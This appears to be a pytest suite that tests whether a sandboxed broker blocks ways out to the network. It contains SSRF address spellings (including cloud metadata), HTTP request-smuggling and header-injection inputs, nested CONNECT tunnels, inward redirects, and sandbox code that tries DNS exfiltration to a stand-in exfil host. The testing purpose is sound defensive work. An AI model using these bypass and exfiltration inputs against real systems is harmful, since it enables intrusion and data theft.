"""Ways out through the real sandbox and the real broker, into an Internet where every address is a live canary.

Judged at the canaries (internet.py). Each test has two controls: the declared road is open to this pack now, and what it
tried to reach would be hit from where the broker stands if the broker did as it was told.
"""

from __future__ import annotations

import asyncio
import base64
from typing import Any

import pytest

from tests.broker.world import code
from tests.hostile.conftest import INWARD, REBIND, TOKEN, TRACKER, TRACKER_ADDRESS, Site, Tenant

pytestmark = pytest.mark.timeout(300)
CANARY = "canary.worka.test"
OPEN = {"do": "fetch", "url": f"https://{TRACKER}/issues"}


def fetch(url: str, **more: Any) -> dict[str, Any]:
    return {"do": "fetch", "url": url, "timeout": 8, **more}


def raw(data: str | bytes, *, host: str = TRACKER, port: int = 80, **more: Any) -> dict[str, Any]:
    """These bytes as they are; port 443 inside TLS for the tracker."""
    text = data.encode("latin-1") if isinstance(data, str) else data
    tls = {"tls": True, "sni": TRACKER} if port == 443 else {}
    return {
        "do": "raw",
        "host": host,
        "port": port,
        "data": base64.b64encode(text).decode(),
        "seconds": 1,
        **tls,
        **more,
    }


def get(host: str, target: str = "/", method: str = "GET") -> str:
    return f"{method} {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"


async def attack(tenant: Tenant, site: Site, *commands: dict[str, Any]) -> list[dict[str, Any]]:
    """The outcomes of the commands. Nothing but the declared road was hit meanwhile, and that one is open."""
    *found, opened = await tenant.wire(*commands, OPEN)
    hits = site.internet.hits()
    assert [
        hit for hit in hits if (hit["to"], hit["port"]) not in {(TRACKER_ADDRESS, 80), (TRACKER_ADDRESS, 443)}
    ] == []
    assert opened["status"] == 200, "the control: the declared road is open"
    seen = [head for hit in hits for head in hit["requests"]]
    assert len([head for head in seen if head.startswith("GET /issues ")]) == 1
    assert all(f"authorization: Bearer {TOKEN}" in head for head in seen), "every request that left was the broker's"
    assert not any("hidden" in head for head in seen), "a request was hidden in another one"
    assert not any("transfer_encoding" in head.lower() or "content_length" in head.lower() for head in seen)
    return found


def live(site: Site, host: str, *ports: int) -> None:
    """The control: from where the broker stands this address is a canary that answers."""
    for port in ports or (80, 443):
        site.internet.do("dial", host=host, port=port)
    assert len(site.internet.canaries()) == len(ports or (80, 443))


RAW = [
    "127.0.0.1", "2130706433", "017700000001", "0177.0.0.1", "0x7f000001", "0x7F.1", "127.1", "127.0.1", "0", "0.0.0.0",
    "0x0", "169.254.169.254", "2852039166", "0xa9.0xfe.0xa9.0xfe", "0251.0376.0251.0376", "169.16689662",
    "168.63.129.16", "100.64.0.1", "10.0.0.1", "192.168.0.1", "172.16.0.1", "1.1.1.1", "192.88.99.1", "198.18.0.1",
    "240.0.0.1", "192.88.98.9",
]  # fmt: skip
SIX = [
    "::1", "::", "::ffff:127.0.0.1", "::ffff:7f00:1", "::ffff:169.254.169.254", "::127.0.0.1", "64:ff9b::127.0.0.1",
    "64:ff9b::7f00:1", "64:ff9b:1::a9fe:a9fe", "2002:7f00:1::", "2002:a9fe:a9fe::1", "2001:0:4136:e378:8000:63bf:80ff:fffe",
    "fd00:ec2::254", "fc00::1", "2606:4700::1111",
]  # fmt: skip


@pytest.mark.capability("BRK-15", part="raw addresses")
@pytest.mark.parametrize("address", RAW)
async def test_an_ipv4_address_is_no_road_in_any_spelling(tenant: Tenant, site: Site, address: str) -> None:
    plain, secure, named, absolute, _asked = await attack(
        tenant, site, fetch(f"http://{address}/"), fetch(f"https://{address}/"), raw(get(address)),
        raw(get(address, f"http://{address}/")), {"do": "lookup", "name": f"{address}."},
    )  # fmt: skip
    assert code(plain) in {"raw_address", "private_address"}
    assert secure.get("status", 403) == 403
    assert "raw_address" in named["data"]
    assert "nested_connect" in absolute["data"]
    assert await tenant.reasons() >= {"raw_address", "nested_connect"}
    # Class E is not dialled by this kernel either.
    if not address.startswith("240."):
        live(site, address)


@pytest.mark.capability("BRK-15", part="raw addresses")
@pytest.mark.parametrize("address", SIX)
async def test_an_ipv6_address_is_no_road_in_any_spelling(tenant: Tenant, site: Site, address: str) -> None:
    plain, secure, named, direct = await attack(
        tenant, site, fetch(f"http://[{address}]/"), fetch(f"https://[{address}]/"), raw(get(f"[{address}]")),
        raw(get("x"), host=address, port=8080),
    )  # fmt: skip
    for found in (plain, secure, direct):
        assert "error" in found or code(found) in {"raw_address", "private_address"}
    assert "raw_address" in named["data"]
    if address != "::":
        live(site, address)


@pytest.mark.capability("BRK-15", part="rebinding")
@pytest.mark.parametrize("name", sorted(INWARD))
async def test_a_declared_name_that_leads_inward_is_refused(tenant: Tenant, site: Site, name: str) -> None:
    """0.0.0.0, mapped, NAT64, 6to4, Teredo, carrier NAT, metadata: by the name that resolves to it."""
    secure, plain = await attack(tenant, site, fetch(f"https://{name}/"), fetch(f"http://{name}/"))
    assert (code(secure), code(plain)) == ("private_address", "private_address")
    assert await tenant.reasons() == {"private_address"}
    assert site.internet.do("asked").count(name) == 2, "the broker did ask the resolver"
    live(site, INWARD[name][-1])


@pytest.mark.capability("BRK-15", part="rebinding")
async def test_a_name_that_changes_between_check_and_connection_is_dialled_where_it_was_checked(
    tenant: Tenant, site: Site
) -> None:
    site.internet.do("table", names={REBIND: [["93.184.216.35"], ["127.0.0.1"]]})
    first, second, third = await tenant.wire(*[fetch(f"https://{REBIND}/") for _ in range(3)])
    hits = site.internet.hits()
    assert first["status"] == 200
    assert [code(found) for found in (second, third)] == ["private_address"] * 2
    assert [(hit["to"], hit["port"]) for hit in hits] == [("93.184.216.35", 443)]
    assert site.internet.do("asked") == [REBIND] * 3, "one question for each request: no second look"
    live(site, "127.0.0.1")


ODD = {
    "userinfo": f"{TRACKER}@{CANARY}", "userinfo before the name": f"{CANARY}@{TRACKER}",
    "userinfo with a password": f"a:b@{TRACKER}", "trailing dot": f"{CANARY}.", "two trailing dots": f"{TRACKER}..",
    "IDN": "trac\xe9r.worka.test", "IDN as bytes": "trac\xc3\xa9r.worka.test", "punycode": "xn--tracker-9za.worka.test",
    "full-width digits": "\xef\xbc\x91\xef\xbc\x92\xef\xbc\x97.0.0.1", "full-width stop": f"{TRACKER}\xe3\x80\x82worka.test",
    "backslash": f"{CANARY}\\@{TRACKER}", "backslash after": f"{TRACKER}\\.{CANARY}", "NUL": f"{TRACKER}\0.{CANARY}",
    "tab": f"{TRACKER}\t{CANARY}", "space": f"{TRACKER} {CANARY}", "comma": f"{TRACKER},{CANARY}", "empty": "",
    "empty label": "tracker..worka.test", "fragment": f"{TRACKER}#{CANARY}", "slash": f"{TRACKER}/{CANARY}",
    "query": f"{TRACKER}?{CANARY}", "percent": "tracker%2eworka.test", "other port": f"{TRACKER}:8443",
    "no port": f"{TRACKER}:", "port with sign": f"{TRACKER}:+80", "two ports": f"{TRACKER}:80:443",
    "bracket": f"[{TRACKER}]", "zone": "[fe80::1%25lo]", "long label": f"{'a' * 64}.worka.test",
}  # fmt: skip


@pytest.mark.capability("BRK-15", part="SNI, Host and target")
@pytest.mark.parametrize("what", sorted(ODD))
async def test_a_host_that_two_parsers_could_read_differently_goes_nowhere(
    tenant: Tenant, site: Site, what: str
) -> None:
    host = ODD[what]
    answers = await attack(
        tenant, site, raw(get(host)), raw(get(host), port=443), raw(get(TRACKER, f"http://{host}/")),
        raw(get(TRACKER, f"//{host}/")), raw(get(TRACKER, f"{host}:443", "CONNECT")),
    )  # fmt: skip
    for found in answers:
        assert found["data"].startswith("HTTP/1.1 4"), found
    assert site.internet.do("asked") == [TRACKER], "not even a name was asked"


async def test_a_trailing_dot_is_the_same_declared_name(tenant: Tenant, site: Site) -> None:
    (found,) = await tenant.wire(raw(get(f"{TRACKER}."), port=443, host=f"{TRACKER}.", sni=f"{TRACKER}.", blind=True))
    assert found["data"].startswith("HTTP/1.1 200"), found
    (hit,) = site.internet.hits()
    assert (hit["to"], hit["sni"]) == (TRACKER_ADDRESS, TRACKER)
    assert f"host: {TRACKER}\r\n" in hit["requests"][0], "it leaves in one spelling"


BREAKS = {
    "CRLF in the target": f"GET /\r\nX: y\r\nHost: {CANARY} HTTP/1.1\r\nHost: {TRACKER}\r\n\r\n",
    "CR in the target": f"GET /\rHost:{CANARY} HTTP/1.1\r\nHost: {TRACKER}\r\n\r\n",
    "LF in the target": f"GET /a\nHost:{CANARY} HTTP/1.1\r\nHost: {TRACKER}\r\n\r\n",
    "NUL in the target": f"GET /\0 HTTP/1.1\r\nHost: {TRACKER}\r\n\r\n",
    "CR in a value": f"GET / HTTP/1.1\r\nHost: {TRACKER}\r\nX: a\rHost: {CANARY}\r\n\r\n",
    "NUL in a value": f"GET / HTTP/1.1\r\nHost: {TRACKER}\r\nX: a\0b\r\n\r\n",
    "NUL in a name": f"GET / HTTP/1.1\r\nHost: {TRACKER}\r\nX\0: a\r\n\r\n",
    "space before the colon": f"GET / HTTP/1.1\r\nHost : {CANARY}\r\nHost: {TRACKER}\r\n\r\n",
    "two hosts": f"GET / HTTP/1.1\r\nHost: {TRACKER}\r\nHost: {CANARY}\r\n\r\n",
    "two hosts, folded case": f"GET / HTTP/1.1\r\nhOST: {CANARY}\r\nHost: {TRACKER}\r\n\r\n",
    "no host": "GET / HTTP/1.0\r\n\r\n",
    "a line folded": f"GET / HTTP/1.1\r\nHost: {TRACKER}\r\n {CANARY}\r\n\r\n",
    "backslash in the target": f"GET \\\\{CANARY}\\x HTTP/1.1\r\nHost: {TRACKER}\r\n\r\n",
    "scheme in the target": f"GET ftp://{CANARY}/ HTTP/1.1\r\nHost: {TRACKER}\r\n\r\n",
    "asterisk": f"OPTIONS * HTTP/1.1\r\nHost: {TRACKER}\r\n\r\n",
    "HTTP/2 preface": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "SOCKS 5": "\x05\x01\x00\x05\x01\x00\x01\x7f\x00\x00\x01\x00\x50",
    "SSH": "SSH-2.0-OpenSSH_9.2\r\n\r\n",
    "SMTP": f"EHLO {TRACKER}\r\nMAIL FROM:<a@b>\r\n\r\n",
}  # fmt: skip


@pytest.mark.capability("BRK-15", part="SNI, Host and target")
@pytest.mark.parametrize("what", sorted(BREAKS))
async def test_a_request_broken_on_purpose_goes_nowhere(tenant: Tenant, site: Site, what: str) -> None:
    plain, secure = await attack(tenant, site, raw(BREAKS[what]), raw(BREAKS[what], port=443))
    for found in (plain, secure):
        assert found.get("data", "")[:10] in {"", "HTTP/1.1 4"}, found


@pytest.mark.capability("BRK-15", part="SNI, Host and target")
async def test_sni_host_and_target_must_name_one_place(tenant: Tenant, site: Site) -> None:
    answers = await attack(
        tenant, site, raw(get(CANARY), port=443), raw(get(TRACKER), port=443, sni=CANARY, blind=True),
        raw(get(CANARY), port=443, sni=CANARY, blind=True), raw(get("loopback.worka.test"), port=443),
        raw(get(TRACKER), port=443, host="loopback.worka.test", sni="loopback.worka.test"), raw(get(CANARY)),
    )  # fmt: skip
    assert all("host_mismatch" in found["data"] for found in answers), answers
    assert site.internet.do("asked") == [TRACKER]
    live(site, "127.0.0.1")


@pytest.mark.capability("BRK-15", part="nested CONNECT")
async def test_a_tunnel_is_not_relayed_and_plain_http_beside_it_gains_nothing(tenant: Tenant, site: Site) -> None:
    connect = f"CONNECT {CANARY}:443 HTTP/1.1\r\nHost: {CANARY}:443\r\n\r\n"
    same = f"CONNECT {TRACKER}:443 HTTP/1.1\r\nHost: {TRACKER}:443\r\n\r\n"
    inward = "CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"
    answers = await attack(
        tenant, site, *(raw(text, port=port) for text in (connect, same, inward) for port in (80, 443)),
        raw(same + get(CANARY)), raw(get(TRACKER, f"https://{CANARY}/")), raw(get(TRACKER, f"http://{TRACKER}/hidden")),
        raw(f"{connect}{get(TRACKER, '/hidden')}"),
    )  # fmt: skip
    assert all("nested_connect" in found["data"] for found in answers), answers
    assert await tenant.reasons() == {"nested_connect"}
    live(site, "169.254.169.254")


UPGRADES = ["websocket", "h2c", "TLS/1.0, HTTP/1.1", "connect-ip", "tcp"]


@pytest.mark.capability("BRK-15", part="nested CONNECT")
@pytest.mark.parametrize("protocol", UPGRADES)
async def test_another_protocol_is_not_spoken_over_the_road(tenant: Tenant, site: Site, protocol: str) -> None:
    asked = (
        f"GET /switch HTTP/1.1\r\nHost: {TRACKER}\r\nUpgrade: {protocol}\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
    )
    plain, secure, unasked = await attack(
        tenant, site, raw(asked), raw(asked, port=443), fetch(f"https://{TRACKER}/switch")
    )
    assert "upgrade_refused" in plain["data"]
    assert "upgrade_refused" in secure["data"]
    assert code(unasked) == "upstream_malformed", "nor when the outside begins it"


HIDDEN = f"DELETE /hidden HTTP/1.1\r\nHost: {TRACKER}\r\n\r\n"
SMUGGLED = {
    "CL and TE": "Content-Length: 50\r\nTransfer-Encoding: chunked", "TE and CL": "Transfer-Encoding: chunked\r\nContent-Length: 5",
    "two TE": "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "TE list": "Transfer-Encoding: gzip, chunked",
    "TE folded": "Transfer-Encoding:\r\n chunked", "TE with a tab": "Transfer-Encoding:\tchunked\r\nContent-Length: 5",
    "TE with a vertical tab": "Transfer-Encoding: \x0bchunked", "TE quoted": 'Transfer-Encoding: "chunked"',
    "TE misspelt": "Transfer-Encoding: xchunked", "TE with a space": "Transfer-Encoding : chunked",
    "CL with an underscore": "Content_Length: 0\r\nContent-Length: 5",
    "TE with an underscore": "Transfer_Encoding: chunked\r\nContent-Length: 5", "two CL": "Content-Length: 5\r\nContent-Length: 0",
    "CL list": "Content-Length: 5, 0", "CL equal list": "Content-Length: 5, 5", "CL with a plus": "Content-Length: +5",
    "CL negative": "Content-Length: -5", "CL in hex": "Content-Length: 0x5", "CL with a space inside": "Content-Length: 5 0",
    "CL too large": "Content-Length: 99999999999999999999", "CL with a NUL": "Content-Length: 5\0",
    "CL in Arabic digits": "Content-Length: \xd9\xa5", "CL of zero": "Content-Length: 0",
    "chunk extension": "Transfer-Encoding: chunked", "upper case": "TRANSFER-ENCODING: CHUNKED",
}  # fmt: skip


@pytest.mark.capability("BRK-15", part="request smuggling")
@pytest.mark.parametrize("what", sorted(SMUGGLED))
async def test_no_second_request_travels_in_the_body_of_a_first(tenant: Tenant, site: Site, what: str) -> None:
    chunk = '0;x="\r\n"\r\n\r\n' if what == "chunk extension" else "0\r\n\r\n"
    data = f"GET /first HTTP/1.1\r\nHost: {TRACKER}\r\n{SMUGGLED[what]}\r\n\r\n{chunk}{HIDDEN}"
    # `attack` looks for "hidden" in all that arrived at the tracker.
    await attack(tenant, site, raw(data), raw(data, port=443), raw(data.replace("\r\n", "\n")))
    allowed = [row for row in await tenant.egress() if row["verdict"] == "allowed"]
    assert {row["path"] for row in allowed} <= {"/issues", "/first"}


@pytest.mark.capability("BRK-15", part="redirects")
@pytest.mark.parametrize(
    "target",
    [
        "https://169.254.169.254/latest/meta-data/", "http://2130706433/", "https://loopback.worka.test/", "//127.1/x",
        f"https://{CANARY}/loot", "https://[::ffff:7f00:1]/", f"https://{TRACKER}@{CANARY}/", "ftp://10.0.0.1/", "gopher://127.0.0.1:80/",
        f"https://{TRACKER}:8443/",
    ],
)  # fmt: skip
async def test_a_redirect_that_leads_inward_ends_there(tenant: Tenant, site: Site, target: str) -> None:
    """An ordinary client that follows redirects by itself."""
    follow = (
        "import urllib.request, urllib.error\n"
        "try:\n"
        "    value = str(urllib.request.urlopen(arguments['url'], timeout=8).status)\n"
        "except urllib.error.HTTPError as e:\n    value = e.read().decode() or str(e.code)\n"
        "except Exception as e:\n    value = type(e).__name__\n"
    )
    ended = await tenant.call("run", code=follow, url=f"https://{TRACKER}/to/{target}")
    assert ended != "200"
    (first,) = site.internet.hits()
    assert (first["to"], first["port"]) == (TRACKER_ADDRESS, 443)
    ok = await tenant.call("run", code=follow, url=f"https://{TRACKER}/to/https://{TRACKER}/issues")
    assert ok == "200", "the control: a redirect within the declared place is followed"


async def test_without_proxy_variables_or_trust_in_our_authority_nothing_leaves(tenant: Tenant, site: Site) -> None:
    loose = (
        "import os, ssl, urllib.request\nkept = dict(os.environ)\n"
        "for name in list(os.environ):\n"
        "    if 'proxy' in name.lower() or 'CERT' in name or 'CA' in name: del os.environ[name]\n"
        "blind = ssl._create_unverified_context()\nvalue = []\n"
        "for proxies in ({}, {'http': 'http://1.1.1.1:8080', 'https': 'http://1.1.1.1:8080'}, {'https': 'http://10.0.0.1:80'}):\n"
        "    opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxies), urllib.request.HTTPSHandler(context=blind))\n"
        "    for url in ('https://1.1.1.1/', 'http://1.1.1.1/', 'https://canary.worka.test/'):\n"
        "        try: value.append(opener.open(url, timeout=4).status)\n"
        "        except Exception as e: value.append(getattr(e, 'code', None) or type(e).__name__)\n"
        "os.environ.update(kept)\n"
    )
    outcomes = await tenant.call("run", code=loose)
    assert len(outcomes) == 9
    assert 200 not in outcomes
    assert site.internet.hits() == []
    await attack(tenant, site)
    live(site, "1.1.1.1", 80, 443, 8080)


@pytest.mark.capability("BRK-1")
async def test_datagrams_quic_and_other_ports_are_no_road(tenant: Tenant, site: Site) -> None:
    udp = (
        "import socket, os\nvalue = []\n"
        "def attempt(family, address):\n"
        "    try:\n"
        "        with socket.socket(family, socket.SOCK_DGRAM) as s:\n"
        "            s.settimeout(0.2); s.sendto(b'\\xc3\\x00\\x00\\x00\\x01' + os.urandom(1200), address); s.recv(10); value.append('answered')\n"
        "    except OSError as e: value.append(type(e).__name__)\n"
        "inside = socket.getaddrinfo('tracker.worka.test', 443)[0][4][0]\n"
        "for port in (53, 80, 123, 443, 4433):\n"
        "    for host in ('1.1.1.1', '93.184.216.34', inside): attempt(socket.AF_INET, (host, port))\n"
        "    attempt(socket.AF_INET6, ('2606:4700::1111', port))\n"
        "for port in (22, 25, 53, 2375, 5432, 8080, 8443):\n"
        "    for host in ('1.1.1.1', 'tracker.worka.test', '127.0.0.1'):\n"
        "        try: socket.create_connection((host, port), 2).close(); value.append('connected')\n"
        "        except OSError as e: value.append(type(e).__name__)\n"
    )
    outcomes = await tenant.call("run", code=udp)
    assert len(outcomes) == 41
    assert not {"answered", "connected"} & set(outcomes)
    assert site.internet.hits() == []
    await attack(tenant, site)
    for port in (53, 80, 123, 443, 4433):
        site.internet.do("send", host="1.1.1.1", port=port)
    site.internet.do("dial", host="1.1.1.1", port=8443)
    assert len(site.internet.canaries()) == 6, "the control: from the broker's place datagrams and ports arrive"


@pytest.mark.capability("BRK-2")
async def test_a_name_lookup_tells_the_outside_nothing(tenant: Tenant, site: Site) -> None:
    leak = (
        "import socket, search\nvalue = 0\n"
        "for n in range(20):\n"
        "    name = (HOARD + str(n)).encode().hex() + '.exfil.worka.test'\n"
        "    for kind in (0, socket.AF_INET6):\n"
        "        try: socket.getaddrinfo(name, 443, kind)\n"
        "        except OSError: value += 1\n"
        "    for server in ('127.0.0.1', '8.8.8.8', '192.88.98.1'):\n"
        "        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:\n"
        "            s.settimeout(0.05)\n"
        "            try: s.sendto(search.question(name), (server, 53)); s.recv(512)\n"
        "            except OSError: pass\n"
        "try: socket.create_connection(('8.8.8.8', 53), 1).sendall(search.question(name)); value = -1\n"
        "except OSError: pass\n"
    ).replace("HOARD", repr("everything I found"))
    assert await tenant.call("run", code=leak) == 40
    assert site.internet.do("asked") == []
    assert site.internet.hits() == []
    rows = [row for row in await tenant.egress() if row["kind"] == "dns"]
    assert sum(row["count"] for row in rows) >= 40, "and each of them was seen"
    await attack(tenant, site)
    assert site.internet.do("asked") == [TRACKER], "the control: a request to the declared name does ask"
    live(site, "8.8.8.8", 53)


@pytest.mark.capability("BRK-1")
async def test_what_a_pack_leaves_running_reaches_nothing_after_its_call(tenant: Tenant, site: Site) -> None:
    linger = (
        "import os, time, box, threading\n"
        "def go():\n"
        "    for _ in range(40):\n"
        "        box.run({'do': 'fetch', 'url': 'https://tracker.worka.test/late', 'timeout': 2}, os.environ['SSL_CERT_FILE'])\n"
        "        time.sleep(0.02)\n"
        "threading.Thread(target=go, daemon=True).start()\n"
        "if os.fork() == 0:\n    go(); os._exit(0)\n"
        "value = box.run({'do': 'fetch', 'url': 'https://tracker.worka.test/issues'}, os.environ['SSL_CERT_FILE'])['status']\n"
    )
    assert await tenant.call("run", code=linger) == 200, "the control: during the call it is open"
    site.internet.hits()
    await asyncio.sleep(1.0)
    assert site.internet.hits() == []
    await tenant.call("run", code="import os; value = 1")
